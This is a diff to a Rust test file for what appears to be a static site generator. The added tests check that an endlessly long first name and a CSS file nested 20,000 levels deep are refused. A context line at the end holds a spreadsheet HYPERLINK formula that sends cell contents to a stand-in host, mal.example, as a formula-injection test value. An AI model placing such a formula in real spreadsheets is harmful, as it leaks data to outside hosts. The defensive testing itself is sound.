@@ -280,6 +280,27 @@ fn a_first_name_with_signs_is_a_first_name() {
     assert!(page.contains("&lt;b&gt;L.*&lt;") && !page.contains("<b>L.*"), "{page}");
 }
 
+/// It would be looked for in every text, and folded for every word of it.
+#[test]
+fn a_first_name_without_end_is_refused() {
+    let name = "Aé".repeat(100_000);
+    let screen =
+        Project::new().edit("content/personnes.yaml", "prenom: Léa", &format!("prenom: {name}")).build().code(1);
+    screen.screen("ce prénom compte 200000\u{a0}signes, 80 au plus").lacks("public");
+}
+
+/// Whoever reads a style goes down by recursion.
+#[test]
+fn a_style_that_nests_without_end_is_refused() {
+    for deep in ["a{".repeat(20_000), format!("p {{}}\na {{ width: calc({}1px) }}", "(".repeat(20_000))] {
+        let run = Project::new().file("themes/lycee-europeen/static/style.css", &deep).build().code(1);
+        let line = if deep.starts_with('p') { 2 } else { 1 };
+        run.screen("cette feuille de style emboîte plus de 50\u{a0}blocs ou parenthèses les uns dans les autres")
+            .screen(&format!("themes/lycee-europeen/static/style.css:{line}:1"))
+            .lacks("public");
+    }
+}
+
 #[test]
 fn a_table_computes_nothing_that_a_text_says() {
     let formula = "=HYPERLINK(\"http://mal.example/?\"&A1)";
